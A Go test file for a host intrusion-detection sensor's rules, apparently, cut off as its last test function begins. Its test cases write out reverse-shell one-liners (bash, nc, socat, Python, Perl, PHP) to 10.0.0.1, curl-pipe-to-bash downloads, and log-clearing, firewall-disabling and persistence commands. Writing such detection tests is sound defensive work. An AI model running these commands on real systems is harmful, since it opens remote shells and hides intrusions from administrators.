package rules

import (
	"net/netip"
	"testing"

	"github.com/vigil-sensor/vigil/agent/event"
	"github.com/vigil-sensor/vigil/agent/proctree"
)

func TestExecutionRules(t *testing.T) {
	runCases(t, []ruleCase{
		{name: "bash dev tcp", ev: execOf("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), parent: bash, want: "reverse-shell", reason: "bash ran a reverse shell command line: bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
		{name: "nc -e", ev: execOf("/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"), parent: bash, want: "reverse-shell", reason: "nc.traditional ran a reverse shell command line: nc -e /bin/sh 10.0.0.1 4444"},
		{name: "socat exec", ev: execOf("/usr/bin/socat", "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash"), parent: bash, want: "reverse-shell", reason: "socat ran a reverse shell command line: socat TCP:10.0.0.1:4444 EXEC:/bin/bash"},
		{name: "bash reading a tcp file name", ev: execOf("/usr/bin/bash", "bash", "-c", "ls /dev/tcp"), parent: bash},
		{name: "python dup2 shell", ev: execOf("/usr/bin/python3.12", "python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`), parent: bash, want: "reverse-shell",
			reason: `python3.12 ran a reverse shell command line: python3 -c import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`},
		{name: "perl STDIN shell", ev: execOf("/usr/bin/perl", "perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};`), parent: bash, want: "reverse-shell",
			reason: `perl ran a reverse shell command line: perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};`},
		{name: "php fsockopen shell", ev: execOf("/usr/bin/php8.2", "php", "-r", `$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");`), parent: bash, want: "reverse-shell",
			reason: `php8.2 ran a reverse shell command line: php -r $sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");`},
		// A wait-for-port or health check connects but hands no shell the socket.
		{name: "python wait for port", ev: execOf("/usr/bin/python3.11", "python3", "-c", "import socket; s=socket.create_connection(('127.0.0.1',17999)); print(s.recv(4096))"), parent: bash},
		{name: "perl port check", ev: execOf("/usr/bin/perl", "perl", "-MIO::Socket::INET", "-e", "exit !IO::Socket::INET->new(PeerAddr => 'localhost:5432')"), parent: bash},
		{name: "pty spawn", ev: execOf("/usr/bin/python3.12", "python3", "-c", "import pty; pty.spawn('/bin/bash')"), parent: bash, want: "python-pty-shell", reason: "python spawned a pty shell: python3 -c import pty; pty.spawn('/bin/bash')"},
		{name: "python script", ev: execOf("/usr/bin/python3.12", "python3", "manage.py", "runserver"), parent: bash},
		{name: "systemd-run tmp", ev: execOf("/usr/bin/systemd-run", "systemd-run", "--unit=x", "/tmp/.x/agent"), parent: bash, want: "systemd-run-tmp-binary", reason: "systemd-run was asked to run /tmp/.x/agent"},
		{name: "systemd-run usr", ev: execOf("/usr/bin/systemd-run", "systemd-run", "--scope", "/usr/bin/make"), parent: bash},
		{name: "debconf script under dpkg", ev: &event.Exec{Exe: "/usr/bin/perl", Filename: "/tmp/tzdata.config.abc"}, parent: dpkg, anc: chain(dpkg, bash)},
	})
}

func TestPersistenceRules(t *testing.T) {
	cronBySh := openW("/etc/cron.d/backdoor")
	aptCron := openW("/etc/cron.daily/apt-compat")
	bySystemd := openW("/etc/systemd/system/x.service.d/override.conf")
	bySystemd.Process.PID = 1
	runCases(t, []ruleCase{
		{name: "cron.d write", ev: cronBySh, proc: procOf("/usr/bin/bash"), parent: bash, want: "cron-modified", reason: "bash wrote the cron file /etc/cron.d/backdoor"},
		{name: "crontab spool rename", ev: renameTo("/var/spool/cron/crontabs/tmp.X", "/var/spool/cron/crontabs/root"), proc: procOf("/usr/bin/crontab"), parent: bash, want: "cron-modified", reason: "crontab wrote the cron file /var/spool/cron/crontabs/root"},
		{name: "cron by dpkg", ev: aptCron, proc: procOf("/usr/bin/dpkg"), parent: bash},
		{name: "cron read", ev: openR("/etc/crontab"), proc: procOf("/usr/sbin/cron"), parent: systemd},
		{name: "at job", ev: execOf("/usr/bin/at", "at", "now", "+", "1", "minute"), parent: bash, want: "at-job-scheduled", reason: "at scheduled a job: at now + 1 minute"},
		{name: "at list", ev: execOf("/usr/bin/at", "at", "-l"), parent: bash},
		{name: "unit written", ev: openW("/etc/systemd/system/evil.service"), proc: procOf("/usr/bin/tee"), parent: bash, want: "systemd-unit-written", reason: "tee wrote the systemd unit file /etc/systemd/system/evil.service"},
		{name: "user unit", ev: openW("/home/alice/.config/systemd/user/x.service"), proc: procOf("/usr/bin/cp"), parent: bash, want: "systemd-unit-written", reason: "cp wrote the systemd unit file /home/alice/.config/systemd/user/x.service"},
		{name: "unit by dpkg", ev: renameTo("/usr/lib/systemd/system/ssh.service.dpkg-new", "/usr/lib/systemd/system/ssh.service"), proc: procOf("/usr/bin/dpkg"), parent: bash},
		{name: "unit by systemd", ev: bySystemd, proc: systemd},
		{name: "useradd", ev: execOf("/usr/sbin/useradd", "useradd", "-m", "backdoor"), parent: bash, want: "user-account-created", reason: "account tool useradd ran: useradd -m backdoor"},
		{name: "useradd under dpkg", ev: execOf("/usr/sbin/useradd", "useradd", "--system", "_apt"), parent: dpkg, anc: chain(dpkg, bash)},
		{name: "passwd by sed", ev: openW("/etc/passwd"), proc: procOf("/usr/bin/sed"), parent: bash, want: "passwd-file-modified", reason: "sed (/usr/bin/sed) wrote /etc/passwd"},
		{name: "passwd by useradd rename", ev: renameTo("/etc/passwd+", "/etc/passwd"), proc: procOf("/usr/sbin/useradd"), parent: bash},
		{name: "authorized_keys", ev: openW("/root/.ssh/authorized_keys"), proc: procOf("/usr/bin/bash"), parent: bash, want: "authorized-keys-modified", reason: "bash wrote /root/.ssh/authorized_keys"},
		{name: "authorized_keys read", ev: openR("/home/alice/.ssh/authorized_keys"), proc: procOf("/usr/sbin/sshd"), parent: sshd},
		{name: "usermod -aG sudo", ev: execOf("/usr/sbin/usermod", "usermod", "-aG", "sudo", "mallory"), parent: bash, want: "user-added-to-admin-group", reason: "administrator group membership granted: usermod -aG sudo mallory"},
		{name: "gpasswd -a wheel", ev: execOf("/usr/bin/gpasswd", "gpasswd", "-a", "mallory", "wheel"), parent: bash, want: "user-added-to-admin-group", reason: "administrator group membership granted: gpasswd -a mallory wheel"},
		{name: "usermod -aG docker", ev: execOf("/usr/sbin/usermod", "usermod", "-aG", "docker", "alice"), parent: bash},
		{name: "insmod", ev: &event.Module{Path: "/tmp/rk.ko"}, proc: procOf("/usr/sbin/insmod", "insmod", "/tmp/rk.ko"), parent: bash, want: "kernel-module-loaded", reason: "insmod loaded a kernel module from /tmp/rk.ko (insmod /tmp/rk.ko)"},
		{name: "udev module load", ev: &event.Module{Path: "/lib/modules/x/e1000.ko"}, proc: procOf("/usr/lib/systemd/systemd-udevd"), parent: systemd},
		{name: "kernel request_module", ev: &event.Module{}, proc: &proctree.Entry{PID: 300, PPID: 2, Exe: "/usr/bin/kmod", Comm: "modprobe", Args: []string{"/sbin/modprobe", "-q", "--", "net-pf-10"}}, parent: &proctree.Entry{PID: 2, Comm: "kthreadd"}},
		{name: "modprobe by hand", ev: execOf("/usr/sbin/modprobe", "modprobe", "rootkit"), parent: bash, want: "module-load-tool", reason: "modprobe run to load a module: modprobe rootkit"},
		{name: "insmod as a link to kmod", ev: linkExec("/usr/bin/kmod", "insmod", "insmod", "/tmp/rk.ko"), parent: bash, want: "module-load-tool", reason: "insmod run to load a module: insmod /tmp/rk.ko"},
		{name: "kmod list", ev: linkExec("/usr/bin/kmod", "lsmod", "lsmod"), parent: bash},
		{name: "modprobe -r", ev: execOf("/usr/sbin/modprobe", "modprobe", "-r", "nbd"), parent: bash},
		{name: "rc.local", ev: openW("/etc/rc.local"), proc: procOf("/usr/bin/bash"), parent: bash, want: "rc-script-modified", reason: "bash wrote the boot script /etc/rc.local"},
		{name: "init.d by dpkg", ev: openW("/etc/init.d/ssh"), proc: procOf("/usr/bin/dpkg"), parent: bash},
		{name: "profile.d", ev: openW("/etc/profile.d/z.sh"), proc: procOf("/usr/bin/bash"), parent: bash, want: "system-profile-modified", reason: "bash wrote the shell profile /etc/profile.d/z.sh"},
		{name: "profile read", ev: openR("/etc/profile"), proc: procOf("/usr/bin/bash"), parent: bash},
		{name: "bashrc by echo", ev: openW("/home/alice/.bashrc"), proc: procOf("/usr/bin/bash"), parent: bash, want: "user-profile-modified", reason: "bash wrote /home/alice/.bashrc"},
		{name: "bashrc by vim", ev: openW("/home/alice/.bashrc"), proc: procOf("/usr/bin/vim"), parent: bash},
		{name: "pam.d", ev: openW("/etc/pam.d/sshd"), proc: procOf("/usr/bin/sed"), parent: bash, want: "pam-config-modified", reason: "sed wrote the PAM file /etc/pam.d/sshd"},
		{name: "pam module", ev: openW("/usr/lib/x86_64-linux-gnu/security/pam_unix.so"), proc: procOf("/usr/bin/cp"), parent: bash, want: "pam-config-modified", reason: "cp wrote the PAM file /usr/lib/x86_64-linux-gnu/security/pam_unix.so"},
		{name: "pam-auth-update under dpkg", ev: openW("/etc/pam.d/common-auth"), proc: procOf("/usr/sbin/pam-auth-update"), parent: dpkg, anc: chain(dpkg, bash)},
	})
}

func TestPrivilegeEscalationRules(t *testing.T) {
	ptr := &event.Ptrace{Request: event.PtraceAttach, TargetPID: 555, Process: event.Process{PID: 100, Comm: "inject"}}
	gdbAttach := &event.Ptrace{Request: event.PtraceSeize, TargetPID: 555, Process: event.Process{PID: 100, Comm: "gdb"}}
	runCases(t, []ruleCase{
		{name: "chmod u+s", ev: chmodEv("/tmp/sh", 0o4755), proc: procOf("/usr/bin/chmod"), parent: bash, want: "setuid-bit-set", reason: "chmod set mode 4755 (setuid/setgid) on /tmp/sh"},
		{name: "chmod 755", ev: chmodEv("/tmp/sh", 0o755), proc: procOf("/usr/bin/chmod"), parent: bash},
		{name: "setuid by dpkg", ev: chmodEv("/usr/bin/passwd", 0o4755), proc: procOf("/usr/bin/dpkg"), parent: bash},
		{name: "setcap", ev: execOf("/usr/sbin/setcap", "setcap", "cap_setuid+ep", "/tmp/python3"), parent: bash, want: "file-capabilities-set", reason: "file capabilities set: setcap cap_setuid+ep /tmp/python3"},
		{name: "setcap -r", ev: execOf("/usr/sbin/setcap", "setcap", "-r", "/tmp/python3"), parent: bash},
		{name: "sudoers.d", ev: openW("/etc/sudoers.d/99-x"), proc: procOf("/usr/bin/tee"), parent: bash, want: "sudoers-modified", reason: "tee wrote /etc/sudoers.d/99-x"},
		{name: "sudoers read by sudo", ev: openR("/etc/sudoers"), proc: procOf("/usr/bin/sudo"), parent: bash},
		{name: "setuid 0", ev: &event.CredChange{Syscall: "setresuid", Old: event.Creds{UID: 1000, EUID: 1000}, New: event.Creds{EUID: 0}}, proc: procOf("/tmp/exploit"), parent: bash, want: "privilege-gained", reason: "exploit (/tmp/exploit) changed its effective uid from 1000 to 0 with setresuid"},
		{name: "sudo setuid", ev: &event.CredChange{Syscall: "setresuid", Old: event.Creds{UID: 1000, EUID: 1000}, New: event.Creds{EUID: 0}}, proc: procOf("/usr/bin/sudo"), parent: bash},
		{name: "root drops", ev: &event.CredChange{Syscall: "setuid", Old: event.Creds{UID: 0, EUID: 0}, New: event.Creds{UID: 33, EUID: 33}}, proc: procOf("/usr/sbin/nginx"), parent: systemd},
		{name: "ld.so.preload", ev: openW("/etc/ld.so.preload"), proc: procOf("/usr/bin/bash"), parent: bash, want: "ld-preload-file-written", reason: "bash wrote /etc/ld.so.preload"},
		{name: "ld.so.preload read", ev: openR("/etc/ld.so.preload"), proc: procOf("/usr/bin/ls"), parent: bash},
		{name: "env LD_PRELOAD", ev: execOf("/usr/bin/env", "env", "LD_PRELOAD=/tmp/x.so", "sshd"), parent: bash, want: "ld-preload-env-exec", reason: "env injected a library: LD_PRELOAD=/tmp/x.so"},
		{name: "env LD_LIBRARY_PATH usr", ev: execOf("/usr/bin/env", "env", "LD_LIBRARY_PATH=/usr/local/lib", "app"), parent: bash},
		{name: "container mount", ev: &event.Mount{Source: "/dev/sda1", Target: "/mnt", FSType: "ext4"}, proc: procOf("/usr/bin/mount"), parent: bash, anc: chain(bash, &proctree.Entry{PID: 8, Exe: "/usr/bin/containerd-shim-runc-v2", Comm: "containerd-shim"}, systemd), want: "container-escape-mount", reason: "mount mounted /dev/sda1 on /mnt from inside a container (containerd-shim-runc-v2)"},
		{name: "host mount", ev: &event.Mount{Source: "/dev/sdb1", Target: "/mnt", FSType: "ext4"}, proc: procOf("/usr/bin/mount"), parent: bash, anc: chain(bash, sshd, systemd)},
		{name: "nsenter -t 1", ev: execOf("/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"), parent: bash, want: "nsenter-host-namespace", reason: "nsenter into the host namespaces: nsenter -t 1 -m -u -n -i sh"},
		{name: "nsenter -t 1234", ev: execOf("/usr/bin/nsenter", "nsenter", "-t", "1234", "-n"), parent: bash},
		{name: "ptrace attach", ev: ptr, proc: procOf("/tmp/inject"), parent: bash, fill: func(in *Input) { in.Ptrace.TargetExe = "/usr/sbin/sshd" }, want: "ptrace-attach", reason: "inject (pid 100) used ptrace attach on pid 555 (/usr/sbin/sshd)"},
		{name: "gdb seize", ev: gdbAttach, proc: procOf("/usr/bin/gdb"), parent: bash},
	})
}

func TestDefenseEvasionRules(t *testing.T) {
	self := fileEv(event.FileUnlink, "/tmp/dropper")
	logTrunc := openT("/var/log/auth.log")
	logrotate := openT("/var/log/syslog")
	histLink := fileEv(event.FileSymlink, "/root/.bash_history")
	histLink.Path2 = "/dev/null"
	bashHist := openT("/home/alice/.bash_history")
	hidden := openW("/tmp/.x")
	x11 := openW("/tmp/.X0-lock")
	runCases(t, []ruleCase{
		{name: "self delete", ev: self, proc: procOf("/tmp/dropper"), parent: bash, want: "binary-self-deleted", reason: "dropper (pid 100) deleted its own executable /tmp/dropper"},
		{name: "rm deletes other", ev: fileEv(event.FileUnlink, "/tmp/dropper"), proc: procOf("/usr/bin/rm"), parent: bash},
		{name: "auth.log truncated", ev: logTrunc, proc: procOf("/usr/bin/bash"), parent: bash, want: "log-file-cleared", reason: "bash truncated the log /var/log/auth.log"},
		{name: "logrotate truncates", ev: logrotate, proc: procOf("/usr/sbin/logrotate"), parent: systemd},
		{name: "journalctl vacuum", ev: execOf("/usr/bin/journalctl", "journalctl", "--vacuum-time=1s"), parent: bash, want: "log-clearing-command", reason: "logs cleared with journalctl: journalctl --vacuum-time=1s"},
		{name: "journalctl -f", ev: execOf("/usr/bin/journalctl", "journalctl", "-f"), parent: bash},
		{name: "history to dev null", ev: histLink, proc: procOf("/usr/bin/ln"), parent: bash, want: "history-file-cleared", reason: "ln replaced with a link the history file /root/.bash_history"},
		{name: "bash rewrites history", ev: bashHist, proc: procOf("/usr/bin/bash"), parent: sshd},
		{name: "unset HISTFILE", ev: execOf("/usr/bin/bash", "bash", "-c", "unset HISTFILE; id"), parent: bash, want: "history-disabled", reason: "shell history disabled: bash -c unset HISTFILE; id"},
		{name: "echo HISTFILE", ev: execOf("/usr/bin/bash", "bash", "-c", "echo $HISTFILE"), parent: bash},
		{name: "touch -r", ev: execOf("/usr/bin/touch", "touch", "-r", "/bin/ls", "/usr/bin/backdoor"), parent: bash, want: "timestomp", reason: "file times forged: touch -r /bin/ls /usr/bin/backdoor"},
		{name: "touch new file", ev: execOf("/usr/bin/touch", "touch", "/etc/x"), parent: bash},
		{name: "hidden tmp file", ev: hidden, proc: procOf("/usr/bin/curl"), parent: bash, want: "hidden-file-in-tmp", reason: "curl created the hidden file /tmp/.x"},
		{name: "file in a hidden tmp dir", ev: openW("/dev/shm/.cache/miner"), proc: procOf("/usr/bin/curl"), parent: bash, want: "hidden-file-in-tmp", reason: "curl created the hidden file /dev/shm/.cache/miner"},
		{name: "dot inside a visible tmp dir", ev: openW("/tmp/build/.o"), proc: procOf("/usr/bin/curl"), parent: bash},
		{name: "X lock", ev: x11, proc: procOf("/usr/lib/xorg/Xorg"), parent: systemd},
		{name: "headless chromium profile", ev: openW("/tmp/.org.chromium.Chromium.a1B2c3"), proc: procOf("/usr/lib/chromium/chromium"), parent: bash},
		{name: "file in a chromium profile dir", ev: openW("/tmp/.org.chromium.Chromium.a1B2c3/SingletonCookie"), proc: procOf("/usr/lib/chromium/chromium"), parent: bash},
		{name: "chromium look-alike", ev: openW("/tmp/.org.chromium.evil"), proc: procOf("/usr/bin/curl"), parent: bash, want: "hidden-file-in-tmp", reason: "curl created the hidden file /tmp/.org.chromium.evil"},
		{name: "base64 pipe sh", ev: execOf("/usr/bin/bash", "bash", "-c", "echo aWQK | base64 -d | bash"), parent: bash, want: "decode-pipe-to-shell", reason: "decoded data piped into a shell: bash -c echo aWQK | base64 -d | bash"},
		{name: "base64 to file", ev: execOf("/usr/bin/bash", "bash", "-c", "base64 -d in > out"), parent: bash},
		{name: "decoder under php", ev: execOf("/usr/bin/base64", "base64", "-d"), parent: phpShell, anc: chain(phpShell, nginx, systemd), want: "decoder-under-network-service", reason: "base64 decoded data under nginx (pid 20): base64 -d"},
		{name: "decoder in ssh session", ev: execOf("/usr/bin/base64", "base64", "-d"), parent: bash, anc: chain(bash, sshd, systemd)},
		{name: "kill agent", ev: &event.Kill{TargetPID: 777, Signal: 9}, proc: procOf("/usr/bin/kill"), parent: bash, fill: func(in *Input) { in.Kill.TargetExe = "/usr/sbin/auditd" }, want: "security-tool-killed", reason: "kill (pid 100) sent signal 9 to /usr/sbin/auditd (pid 777)"},
		{name: "systemd stops auditd", ev: &event.Kill{TargetPID: 777, Signal: 15, Process: event.Process{PID: 1}}, proc: systemd, fill: func(in *Input) { in.Kill.TargetExe = "/usr/sbin/auditd" }},
		{name: "systemctl stop auditd", ev: execOf("/usr/bin/systemctl", "systemctl", "stop", "auditd.service"), parent: bash, want: "security-service-stopped", reason: "security service stopped: systemctl stop auditd.service"},
		{name: "systemctl status auditd", ev: execOf("/usr/bin/systemctl", "systemctl", "status", "auditd"), parent: bash},
		{name: "setenforce 0", ev: execOf("/usr/sbin/setenforce", "setenforce", "0"), parent: bash, want: "mac-enforcement-disabled", reason: "mandatory access control weakened: setenforce 0"},
		{name: "setenforce 1", ev: execOf("/usr/sbin/setenforce", "setenforce", "1"), parent: bash},
		{name: "auditctl -D", ev: execOf("/usr/sbin/auditctl", "auditctl", "-D"), parent: bash, want: "audit-rules-cleared", reason: "audit rules cleared: auditctl -D"},
		{name: "auditctl -l", ev: execOf("/usr/sbin/auditctl", "auditctl", "-l"), parent: bash},
		{name: "iptables -F", ev: execOf("/usr/sbin/iptables", "iptables", "-F"), parent: bash, want: "firewall-disabled", reason: "firewall disabled: iptables -F"},
		{name: "iptables -F through xtables-nft-multi", ev: linkExec("/usr/sbin/xtables-nft-multi", "iptables", "iptables", "-F"), parent: bash, want: "firewall-disabled", reason: "firewall disabled: iptables -F"},
		{name: "ufw disable", ev: execOf("/usr/sbin/ufw", "ufw", "disable"), parent: bash, want: "firewall-disabled", reason: "firewall disabled: ufw disable"},
		{name: "iptables -L", ev: execOf("/usr/sbin/iptables", "iptables", "-L", "-n"), parent: bash},
		{name: "bpf by unknown", ev: &event.BPFProgLoad{ProgType: 2, InsnCount: 40, ProgName: "hide"}, proc: procOf("/tmp/rk"), parent: bash, want: "bpf-program-loaded", reason: `rk (/tmp/rk) loaded BPF program "hide" of type 2 with 40 instructions`},
		{name: "bpf by systemd", ev: &event.BPFProgLoad{ProgType: 15, InsnCount: 20, ProgName: "sd_devices", Process: event.Process{PID: 1}}, proc: systemd},
		{name: "chmod 777 etc", ev: chmodEv("/etc/shadow", 0o777), proc: procOf("/usr/bin/chmod"), parent: bash, want: "world-writable-system-path", reason: "chmod set mode 0777 on /etc/shadow"},
		{name: "chmod 1777 tmp", ev: chmodEv("/tmp", 0o1777), proc: procOf("/usr/bin/chmod"), parent: bash},
	})
}

func TestCredentialAccessRules(t *testing.T) {
	fail := func(user string) *event.Login {
		return &event.Login{Op: event.LoginAuthenticate, Result: event.PAMAuthErr, Service: "sshd", User: user, RemoteHost: "203.0.113.9", Process: event.Process{PID: 900, Comm: "sshd-session"}}
	}
	ok := &event.Login{Op: event.LoginAuthenticate, Result: event.PAMSuccess, Service: "sshd", User: "alice", RemoteHost: "203.0.113.9", Process: event.Process{PID: 900, Comm: "sshd-session"}}
	stats := func(fromSrc, users, forUser, srcs, before int) func(*Input) {
		return func(in *Input) {
			in.Login.FailuresFromSource, in.Login.UsersFromSource = fromSrc, users
			in.Login.FailuresForUser, in.Login.SourcesForUser, in.Login.FailuresBeforeSuccess = forUser, srcs, before
		}
	}
	sshdProc := procOf("/usr/sbin/sshd-session")
	// A user who is not root trying to read the hashes: EACCES.
	refused := openR("/etc/shadow")
	refused.Ret = -13
	runCases(t, []ruleCase{
		{name: "cat opens shadow", ev: openR("/etc/shadow"), proc: procOf("/usr/bin/python3"), parent: bash, want: "shadow-file-read", reason: "python3 (/usr/bin/python3) opened /etc/shadow for reading"},
		{name: "shadow open refused", ev: refused, proc: procOf("/usr/bin/wc"), parent: bash, want: "shadow-file-read", reason: "wc (/usr/bin/wc) tried to open /etc/shadow for reading (refused, errno 13)"},
		{name: "unix_chkpwd opens shadow", ev: openR("/etc/shadow"), proc: procOf("/usr/sbin/unix_chkpwd"), parent: sshd},
		{name: "cron backup of shadow", ev: execOf("/usr/bin/cp", "cp", "-p", "/etc/shadow", "/var/backups/shadow.bak"), parent: &proctree.Entry{PID: 11, Exe: "/usr/bin/run-parts", Comm: "run-parts"}},
		{name: "ssh key read", ev: openR("/root/.ssh/id_ed25519"), proc: procOf("/usr/bin/cat"), parent: bash, want: "private-key-read", reason: "cat (/usr/bin/cat) read the private key /root/.ssh/id_ed25519"},
		{name: "host key read by sshd", ev: openR("/etc/ssh/ssh_host_ed25519_key"), proc: procOf("/usr/sbin/sshd"), parent: systemd},
		{name: "public key read", ev: openR("/root/.ssh/id_ed25519.pub"), proc: procOf("/usr/bin/cat"), parent: bash},
		{name: "brute force", ev: fail("root"), proc: sshdProc, parent: sshd, fill: stats(6, 1, 6, 1, 0), want: "brute-force", reason: "6 failed logins from 203.0.113.9 (last for user root via sshd)"},
		{name: "a few typos", ev: fail("root"), proc: sshdProc, parent: sshd, fill: stats(3, 1, 3, 1, 0)},
		{name: "distributed", ev: fail("admin"), proc: sshdProc, parent: sshd, fill: stats(2, 1, 12, 5, 0), want: "distributed-brute-force", reason: "12 failed logins for admin from 5 sources"},
		{name: "distributed below", ev: fail("admin"), proc: sshdProc, parent: sshd, fill: stats(2, 1, 12, 2, 0)},
		{name: "spraying", ev: fail("bob"), proc: sshdProc, parent: sshd, fill: stats(10, 5, 2, 1, 0), want: "password-spraying", reason: "203.0.113.9 failed for 5 users (10 failures)"},
		{name: "stuffing", ev: fail("carol"), proc: sshdProc, parent: sshd, fill: stats(4, 4, 1, 1, 0), want: "credential-stuffing", reason: "203.0.113.9 tried 4 users with 4 failures"},
		{name: "two users", ev: fail("carol"), proc: sshdProc, parent: sshd, fill: stats(2, 2, 1, 1, 0)},
		{name: "success after failures", ev: ok, proc: sshdProc, parent: sshd, fill: stats(0, 0, 0, 0, 7), want: "brute-force-success", reason: "alice logged in from 203.0.113.9 via sshd after 7 failures"},
		{name: "success after a typo", ev: ok, proc: sshdProc, parent: sshd, fill: stats(0, 0, 0, 0, 1)},
		{name: "john", ev: execOf("/usr/sbin/john", "john", "hashes.txt"), parent: bash, want: "password-cracker", reason: "password cracking tool john executed: john hashes.txt"},
		{name: "johnny-be-good", ev: execOf("/usr/bin/johnny", "johnny"), parent: bash},
	})
}

func TestInitialAccessRules(t *testing.T) {
	login := func(op event.LoginOp, user string) *event.Login {
		return &event.Login{Op: op, Result: event.PAMSuccess, Service: "sshd", User: user, RemoteHost: "198.51.100.7", Process: event.Process{PID: 900, Comm: "sshd-session"}}
	}
	open := func(user string) *event.Login { return login(event.LoginOpenSession, user) }
	// The login scorer sets new_source and unusual_hour on the account check
	// (pam_acct_mgmt), which every login passes, with a password or a key.
	account := func(user string) *event.Login { return login(event.LoginAccount, user) }
	sshdProc := procOf("/usr/sbin/sshd-session")
	runCases(t, []ruleCase{
		{name: "new source", ev: account("alice"), proc: sshdProc, parent: sshd, fill: func(in *Input) { in.Login.NewSource = true }, want: "login-new-source", reason: "alice logged in via sshd from new source 198.51.100.7"},
		{name: "new source while learning", ev: account("alice"), proc: sshdProc, parent: sshd, fill: func(in *Input) { in.Login.NewSource, in.Login.Learning = true, true }},
		{name: "root over ssh", ev: open("root"), proc: sshdProc, parent: sshd, want: "root-ssh-login", reason: "root logged in over ssh from 198.51.100.7"},
		{name: "root via su", ev: &event.Login{Op: event.LoginOpenSession, Service: "su", User: "root", Process: event.Process{PID: 901, Comm: "su"}}, proc: procOf("/usr/bin/su"), parent: bash},
		{name: "unusual hour", ev: account("alice"), proc: sshdProc, parent: sshd, fill: func(in *Input) { in.Login.UnusualHour = true }, want: "login-unusual-hour", reason: "alice logged in via sshd at an unusual hour from 198.51.100.7"},
		{name: "usual hour", ev: account("alice"), proc: sshdProc, parent: sshd},
		{name: "session of a new source counted at its account check", ev: open("alice"), proc: sshdProc, parent: sshd, fill: func(in *Input) { in.Login.NewSource, in.Login.UnusualHour = true, true }},
	})
}

func TestDiscoveryRules(t *testing.T) {
	conn := &event.TCPConnect{Local: netip.MustParseAddrPort("10.0.0.5:40000"), Remote: netip.MustParseAddrPort("10.0.0.9:445"), Process: event.Process{PID: 100, Comm: "scan"}}
	webAnc := chain(phpShell, nginx, systemd)
	runCases(t, []ruleCase{
		{name: "connect scan", ev: conn, proc: procOf("/opt/scan"), parent: bash, fill: func(in *Input) { in.Network.PortsToHost = 30 }, want: "port-scan-connections", reason: "scan (pid 100) touched 30 ports on 10.0.0.9"},
		{name: "a few ports", ev: conn, proc: procOf("/opt/scan"), parent: bash, fill: func(in *Input) { in.Network.PortsToHost = 3 }},
		{name: "sweep", ev: conn, proc: procOf("/opt/scan"), parent: bash, fill: func(in *Input) { in.Network.HostsOnPort = 40 }, want: "network-sweep", reason: "scan (pid 100) touched port 445 on 40 hosts"},
		{name: "getent passwd under web", ev: execOf("/usr/bin/getent", "getent", "passwd"), parent: phpShell, anc: webAnc, want: "account-discovery-from-service", reason: "getent listed accounts under nginx (pid 20): getent passwd"},
		{name: "cat passwd under web", ev: execOf("/usr/bin/cat", "cat", "/etc/passwd"), parent: phpShell, anc: webAnc, want: "account-discovery-from-service", reason: "cat listed accounts under nginx (pid 20): cat /etc/passwd"},
		{name: "getent hosts under web", ev: execOf("/usr/bin/getent", "getent", "hosts", "db"), parent: phpShell, anc: webAnc},
		{name: "uname under web", ev: execOf("/usr/bin/uname", "uname", "-a"), parent: phpShell, anc: webAnc, want: "system-info-discovery-from-service", reason: "uname run under nginx (pid 20): uname -a"},
		{name: "uname in ssh", ev: execOf("/usr/bin/uname", "uname", "-a"), parent: bash, anc: chain(bash, sshd, systemd)},
		{name: "ip under web", ev: execOf("/usr/sbin/ip", "ip", "addr"), parent: phpShell, anc: webAnc, want: "network-config-discovery-from-service", reason: "ip run under nginx (pid 20): ip addr"},
		{name: "ip in ssh", ev: execOf("/usr/sbin/ip", "ip", "addr"), parent: bash, anc: chain(bash, sshd, systemd)},
		{name: "whoami under web", ev: execOf("/usr/bin/whoami", "whoami"), parent: phpShell, anc: webAnc, want: "owner-discovery-from-service", reason: "whoami run under nginx (pid 20)"},
		{name: "whoami in ssh", ev: execOf("/usr/bin/whoami", "whoami"), parent: bash, anc: chain(bash, sshd, systemd)},
	})
}

func TestCommandAndControlRules(t *testing.T) {
	closeEv := &event.TCPClose{Direction: event.Outbound, Local: netip.MustParseAddrPort("10.0.0.5:40000"), Remote: netip.MustParseAddrPort("192.0.2.50:443"), Process: event.Process{PID: 100, Comm: "implant"}}
	wgetTmp := execOf("/usr/bin/wget", "wget", "http://x.example/a")
	wgetTmp.Cwd = "/tmp"
	runCases(t, []ruleCase{
		{name: "curl -o tmp", ev: execOf("/usr/bin/curl", "curl", "-o", "/tmp/x", "http://x.example/a"), parent: bash, want: "download-to-tmp", reason: "curl downloaded into a temporary directory: curl -o /tmp/x http://x.example/a"},
		{name: "wget in tmp", ev: wgetTmp, parent: bash, want: "download-to-tmp", reason: "wget downloaded into a temporary directory: wget http://x.example/a"},
		{name: "curl to stdout", ev: execOf("/usr/bin/curl", "curl", "-s", "http://x.example/a"), parent: bash},
		{name: "curl pipe bash", ev: execOf("/usr/bin/bash", "bash", "-c", "curl -fsSL http://x.example/i.sh | bash"), parent: bash, want: "download-pipe-to-shell", reason: "download piped into a shell: bash -c curl -fsSL http://x.example/i.sh | bash"},
		{name: "curl pipe jq", ev: execOf("/usr/bin/bash", "bash", "-c", "curl -s http://x.example/a | jq ."), parent: bash},
		{name: "beacon", ev: closeEv, proc: procOf("/opt/implant"), parent: bash, fill: func(in *Input) { in.Network.Beacon, in.Network.BeaconIntervalMS = true, 60000 }, want: "beaconing", reason: "implant contacts 192.0.2.50:443 every 60 s"},
		{name: "no beacon", ev: closeEv, proc: procOf("/opt/implant"), parent: bash},
	})
}

func TestImpactRules(t *testing.T) {
	runCases(t, []ruleCase{
